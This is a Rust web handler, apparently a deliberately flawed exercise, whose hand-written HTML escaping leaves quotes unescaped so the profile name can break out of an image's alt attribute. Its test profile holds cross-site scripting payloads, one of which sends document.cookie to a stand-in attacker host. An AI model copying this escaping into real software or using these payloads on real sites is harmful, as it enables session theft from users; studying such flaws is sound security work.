//! wrong: escapes &, < and > by hand, but not the quotes
//! expect: the alt attribute: the user typed
use askama::Template;
use axum::{
    Router,
    extract::Path,
    http::StatusCode,
    response::{Html, IntoResponse, Response},
    routing::get,
};
use url::Url;

/// What a user typed in their settings.
pub struct Profile {
    pub name: String,
    pub bio: String,
    pub website: String,
}

/// The page's markup; askama escapes every `{{ value }}` for HTML (`ext = "html"`).
#[derive(Template)]
#[template(
    ext = "html",
    source = r#"<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>{{ name }}</title></head>
<body>
<img alt="{{ name }}" src="/avatar.png">
<h1>{{ name }}</h1>
<p class="bio">{{ bio }}</p>
{% if let Some(url) = website %}<a href="{{ url }}" rel="nofollow ugc">website</a>{% endif %}
</body>
</html>"#
)]
struct ProfilePage<'a> {
    name: &'a str,
    bio: &'a str,
    website: Option<String>,
}

/// The website as a URL worth linking: only `http` and `https` (never `javascript:`, `data:`).
fn linkable(website: &str) -> Option<String> {
    let url = Url::parse(website).ok()?;
    matches!(url.scheme(), "http" | "https").then(|| url.into())
}

/// Escapes the characters that start markup.
fn escape_html(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// The profile page.
pub fn render_profile(profile: &Profile) -> Result<String, askama::Error> {
    let link = linkable(&profile.website)
        .map(|url| {
            format!(
                r#"<a href="{}" rel="nofollow ugc">website</a>"#,
                escape_html(&url)
            )
        })
        .unwrap_or_default();
    Ok(format!(
        r#"<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>{name}</title></head>
<body>
<img alt="{name}" src="/avatar.png">
<h1>{name}</h1>
<p class="bio">{bio}</p>
{link}
</body>
</html>"#,
        name = escape_html(&profile.name),
        bio = escape_html(&profile.bio),
    ))
}

/// The profiles users saved; number 2 belongs to an attacker.
fn saved_profile(id: u32) -> Option<Profile> {
    match id {
        1 => Some(Profile {
            name: "Ada".into(),
            bio: "Engines & numbers".into(),
            website: "https://ada.example/notes?topic=engines&page=2".into(),
        }),
        2 => Some(Profile {
            name: "<script>fetch('//evil.example/?c='+document.cookie)</script>".into(),
            bio: "</p><img src=x onerror=alert(1)>".into(),
            website: "javascript:alert(document.domain)".into(),
        }),
        _ => None,
    }
}

async fn profile_page(Path(id): Path<u32>) -> Response {
    let Some(profile) = saved_profile(id) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    match render_profile(&profile) {
        Ok(page) => Html(page).into_response(),
        Err(_) => StatusCode::INTERNAL_SERVER_ERROR.into_response(),
    }
}

pub fn app() -> Router {
    Router::new().route("/profile/{id}", get(profile_page))
}

fn main() {
    // Checked by the tests, which render hostile profiles.
}
